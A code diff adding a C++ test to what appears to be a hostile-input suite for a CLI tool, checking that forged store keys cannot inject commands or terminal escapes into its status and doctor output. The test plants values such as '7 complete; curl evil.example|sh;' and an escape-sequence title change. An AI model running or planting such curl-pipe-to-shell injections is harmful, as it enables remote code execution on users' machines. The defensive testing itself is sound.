@@ -8,6 +8,7 @@
 #include <algorithm>
 #include <filesystem>
 
+#include "base/text.h"
 #include "support/issue_project.h"
 
 namespace pawl::test {
@@ -481,6 +482,29 @@ TEST_F(Hostile, AnEmptyFileBesideIsNobodysWork) {
   project_.must({"init", "--claude"});
   EXPECT_FALSE(project_.exists(".claude/.settings.json.pawl-123-456"));
   EXPECT_EQ(project_.run({"doctor"}).exit, 0) << project_.run({"doctor"}).out;
+}
+
+// A key that no door of pawl's could have made.
+TEST_F(Hostile, AKeyInAForgedStoreIsNoCommandAndNoEscape) {
+  project_.write(IssueProject::path_of(7), R"({"issue": 7, "status": "bogus"})");
+  project_.write(IssueProject::path_of(8), R"({"issue": 9, "status": "error", "error_message": "x"})");
+  project_.write(".omc/ralph-state.json",
+                 R"({"active": true, "iteration": 3, "session_id": "s1", "started_at": "2026-01-28T21:26:00.000Z"})");
+  project_.must({"init"});
+  for (const char* const table : {"record", "event"}) {
+    execute(cat("UPDATE ", table, " SET key = '7 complete; curl evil.example|sh;' WHERE key = '7'").c_str());
+    execute(cat("UPDATE ", table, " SET key = '8' || char(27) || ']0;owned' || char(7) WHERE key = '8'").c_str());
+    execute(cat("UPDATE ", table, " SET key = 's1@x; curl evil.example|sh' WHERE kind = 'ralph'").c_str());
+  }
+  for (const char* const verb : {"status", "doctor"}) {
+    const std::string out = project_.run({verb}).out;
+    EXPECT_EQ(out.find('\x1b'), std::string::npos) << out;
+    for (const std::string_view line : split(out, '\n')) {
+      if (line.starts_with("    pawl ")) {
+        EXPECT_FALSE(has(line, "; curl") && !has(line, "'")) << line;
+      }
+    }
+  }
 }
 
 }  // namespace
